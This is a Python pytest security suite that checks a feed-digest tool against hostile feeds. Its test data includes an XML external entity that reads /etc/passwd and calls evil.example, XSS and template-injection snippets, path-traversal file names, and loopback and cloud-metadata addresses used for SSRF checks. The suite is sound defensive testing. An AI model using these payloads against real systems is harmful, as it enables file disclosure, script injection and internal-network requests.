"""S: whatever a feed holds, the machine, the tree and the site stay sound."""

from __future__ import annotations

import json
import re
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any
from xml.etree import ElementTree

import pytest

from digest.collect.guard import is_public
from digest.collect.parse import parse_feed
from digest.content.documents import parse_entry
from digest.errors import DigestError
from digest.model import ParsedFeed
from tests.corpus import CORPUS, OWN_FEEDS, attacks, lines
from tests.hostile import collect, crimes, hostile_site, is_harmless, pages
from tests.outside import rss
from tests.servers import Answer

if TYPE_CHECKING:
    from playwright.sync_api import Browser

FEED = "http://news.example/feed"
REPOSITORY = Path(__file__).resolve().parents[2]
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202a-\u202e\u2066-\u2069\ufeff]")
MARKUP = {"description", "encoded", "content", "summary"}
BOMBS = [
    OWN_FEEDS / "bomb.rss",
    *sorted(path for path in (CORPUS / "attacks" / "xml").glob("*.xml")),
]


def feed_texts(site: Path) -> Iterator[tuple[str, str, bool]]:
    """Every text of every feed of the site, and whether it is markup."""
    for path in sorted((*site.rglob("*.xml"), *site.rglob("*.opml"))):
        for node in ElementTree.fromstring(path.read_bytes()).iter():
            name = node.tag.rpartition("}")[2]
            is_markup = name in MARKUP and node.get("type", "html") != "text"
            yield f"{path.name}: {name}", node.text or "", is_markup
            for key, value in node.attrib.items():
                if key.rpartition("}")[2] in ("href", "url", "src", "xmlUrl", "htmlUrl", "uri"):
                    assert is_harmless(value), (path, value)
    for path in sorted(site.rglob("*.json")):
        for key, value in json_texts(json.loads(path.read_text("utf-8"))):
            yield f"{path.name}: {key}", value, key == "content_html"
            if key in ("url", "external_url", "image", "avatar", "home_page_url", "feed_url"):
                assert is_harmless(value), (path, value)


def json_texts(value: Any, key: str = "") -> Iterator[tuple[str, str]]:
    if isinstance(value, dict):
        for name, inner in value.items():
            yield from json_texts(inner, name)
    elif isinstance(value, list):
        for inner in value:
            yield from json_texts(inner, key)
    elif isinstance(value, str):
        yield key, value


def test_s_every_attack_in_every_field_leaves_a_site_in_which_nothing_can_run_or_ask(tmp_path):
    site = hostile_site(tmp_path)
    shown = dict(pages(site))
    assert sum(page.count("<article") for page in shown.values()) > len(attacks()) // 2
    for name, page in shown.items():
        assert crimes(page) == [], name
        assert not CONTROL.search(page), name
    for name, text, is_markup in feed_texts(site):
        assert not CONTROL.search(text), name
        assert not is_markup or crimes(text, is_own=False) == [], name
    whole = shown["issues/2026-W47/index.html"]
    assert "{{7*7}} {% for x in ().__class__" in whole
    assert not list(site.rglob("*passwd*"))


def test_s_the_judge_knows_a_crime():
    for attack in (
        "<script>",
        "<p onclick=x>",
        "<a href=' java\tscript:x'>",
        "<img src=//evil.example/>",
        "<p style=a>",
    ):
        assert crimes(attack), attack
    assert crimes("<p><a href='https://x.example/'>x</a><a href='#a'>y</a><a href='mailto:a@b.c'>z</a></p>") == []
    assert crimes("<blockquote><p id=top>x</p></blockquote>")


def test_s_every_attack_leaves_entries_that_read_back_without_a_problem(world):
    fetched = collect(world)
    assert fetched.failed == ()
    for entry in fetched.entries:
        problems: list[Any] = []
        data = (world.root / entry.path).read_bytes()
        assert parse_entry(data, entry.path, problems) == entry
        assert problems == []
        assert all(line.startswith(">") for line in entry.body.splitlines()), entry.path
        name = entry.path.rpartition("/")[2]
        assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*\.md", name), name
        assert len(name) <= 80
        assert not CONTROL.search(data.decode("utf-8"))
    for data in world.tree("content/seen").values():
        rows = data.decode("utf-8").removesuffix("\n").split("\n")
        assert {row.count("\t") for row in rows} == {8}
        assert not CONTROL.search(data.decode("utf-8"))


@pytest.mark.browser
def test_s_nothing_runs_and_no_request_leaves_in_a_browser(tmp_path, browser):
    subprocess.run([sys.executable, "-m", "tests.hostile", str(tmp_path)], cwd=REPOSITORY, check=True)
    site = tmp_path / "build"
    with served(site) as address:
        told = visited(browser, address, [name for name, _ in pages(site)] + ["feed.xml", "entries.xml", "atom.xml"])
    assert told == []


MARKER = """
for (const name of ["alert", "confirm", "prompt", "print", "open"]) window[name] = () => console.error("RAN " + name);
Object.defineProperty(window, "name", {set: () => console.error("RAN name"), get: () => ""});
document.addEventListener("securitypolicyviolation", event => console.error("RAN policy " + event.blockedURI));
"""
PROVOKE = """() => {
  const found = [];
  for (const node of document.querySelectorAll("*")) {
    for (const attribute of node.attributes) if (/^on/i.test(attribute.name)) found.push(node.outerHTML.slice(0, 200));
    for (const event of ["mouseover", "mouseenter", "focus", "error", "load", "toggle", "animationstart"])
      node.dispatchEvent(new Event(event, {bubbles: false}));
    if (node.href && !/^(https?:|mailto:)/.test(node.href)) found.push(node.outerHTML.slice(0, 200));
  }
  // Data for machines is a script by name alone, and the page of search has one of its own, with a form.
  const never = "script:not([type='application/ld+json'], [src$='/assets/search.js']), iframe, frame, object, embed, "
    + "form:not(.search), input:not(.search-words), svg, math, base, style, meta[http-equiv=refresh]";
  for (const node of document.querySelectorAll(never)) found.push(node.outerHTML.slice(0, 200));
  return found;
}"""


def visited(browser: Browser, address: str, names: list[str]) -> list[str]:
    """What ran or asked. The site's own policy is switched off: what it would have to stop must not be there."""
    told: list[str] = []
    context = browser.new_context(bypass_csp=True)
    context.add_init_script(MARKER)
    page = context.new_page()
    page.set_default_timeout(60_000)
    page.on("dialog", lambda dialog: told.append(f"dialog {dialog.message}"))
    page.on("console", lambda message: told.append(message.text) if "RAN" in message.text else None)
    page.on("popup", lambda popup: told.append(f"popup {popup.url}"))
    page.on("pageerror", lambda error: told.append(f"error {error}"))
    page.on("request", lambda request: told.extend(_strange(request.url, address)))
    for name in names:
        page.goto(f"{address}/{name}", wait_until="load")
        if name.endswith(".html"):
            told += page.evaluate(PROVOKE)
        assert page.url.startswith(address), name
    context.close()
    return told


def _strange(link: str, address: str) -> list[str]:
    return [] if link.startswith((f"{address}/", "data:image/")) else [f"asked {link}"]


@contextmanager
def served(site: Path) -> Iterator[str]:
    """A folder under a sub-path, as on GitHub Pages."""
    (site.parent / "www").mkdir()
    (site.parent / "www/weekly").symlink_to(site)
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(_Quiet, directory=str(site.parent / "www")))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/weekly"
    server.shutdown()
    server.server_close()


class _Quiet(SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.mark.parametrize("path", BOMBS, ids=[path.name for path in BOMBS])
def test_s_xml_bombs_and_external_entities_neither_grow_nor_read_nor_ask(path):
    data = path.read_bytes()
    wrapped = re.sub(
        rb"<(\w+)(?: [^>]*)?>(.*)</\1>\s*$",
        rb"<rss version='2.0'><channel><item><title>\2</title><link>https://x.example/1</link></item></channel></rss>",
        data.replace(b"<!DOCTYPE xmlbomb", b"<!DOCTYPE rss"),
        flags=re.DOTALL,
    )
    secret = Path("/etc/passwd").read_text("utf-8").splitlines()[0]
    for document in (data, wrapped):
        parsed = parse_feed(document, link=FEED)
        text = repr(parsed) if isinstance(parsed, ParsedFeed) else parsed.reason
        assert len(text) < 5000
        assert secret not in text


ENTITIES = """<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "http://evil.example/x">
<!ENTITY % c SYSTEM "http://evil.example/y"> %c;]>"""


def test_s_external_entity_in_a_feed_is_not_asked_for(world):
    world.follow(FEED)
    feed = rss("one").body.replace(b"Title one", b"One &a;&b;")
    world.plain["/feed"] = Answer(body=ENTITIES.encode() + feed)
    world.run()
    assert world.looked_up == ["news.example"]
    assert len(world.plain.requests) == 1
    assert b"root:" not in b"".join(world.tree().values())


@pytest.mark.parametrize(("name", "expected"), [("private.txt", False), ("public.txt", True)])
def test_s_listed_addresses_are_told_apart(name, expected):
    own = {"private.txt": ["127.0.0.1", "::1", "169.254.169.254"], "public.txt": ["1.1.1.1", "2606:4700::1111"]}
    assert [line for line in own[name] + lines(f"addresses/{name}") if is_public(line) is not expected] == []


@pytest.mark.parametrize(
    "host", ["127.0.0.1", "[::1]", "[::ffff:127.0.0.1]", "0", *lines("addresses/disguised-loopback-hosts.txt")]
)
def test_s_disguised_loopback_is_refused(world, host):
    world.follow(f"http://{host}/feed")
    assert world.reasons()
    assert world.plain.requests == []


HOSTILE_NAMES = [
    "../../../etc/passwd",
    "..\\..\\boot.ini",
    "CON",
    "nul",
    "aux.md",
    "/etc/passwd",
    ".git/config",
    "~",
    "-rf",
]


def test_s_names_of_files_neither_traverse_nor_are_reserved(world):
    world.follow(FEED)
    items = "".join(
        f"<item><title>{name}</title><guid>{name}</guid><link>https://news.example/{n}</link></item>"
        for n, name in enumerate(HOSTILE_NAMES)
    )
    world.plain["/feed"] = Answer(body=f"<rss version='2.0'><channel>{items}</channel></rss>".encode())
    before = sorted(world.root.parent.rglob("*"))
    assert len(world.run().entries) == len(HOSTILE_NAMES)
    made = sorted(set(world.root.parent.rglob("*")) - set(before))
    inside = (world.root / "content", world.root / ".cache")
    assert all(path.is_relative_to(inside[0]) or path.is_relative_to(inside[1]) for path in made)
    stems = [path.stem for path in made if path.parent.name == "2026-W47" and path.suffix == ".md"]
    assert all(re.fullmatch(r"[a-z0-9-]+-[0-9a-f]{6}", stem) for stem in stems)


@pytest.mark.parametrize("folder", ["content/entries", "content/entries/2026-W47", "content/seen", "content/state"])
def test_s_nothing_is_written_through_a_symbolic_link(world, tmp_path_factory, folder):
    elsewhere = tmp_path_factory.mktemp("elsewhere")
    world.follow(FEED)
    world.plain["/feed"] = rss("one")
    place = world.root / folder
    place.parent.mkdir(parents=True, exist_ok=True)
    place.symlink_to(elsewhere)
    with pytest.raises(DigestError, match="symbolic link"):
        world.run()
    assert list(elsewhere.iterdir()) == []
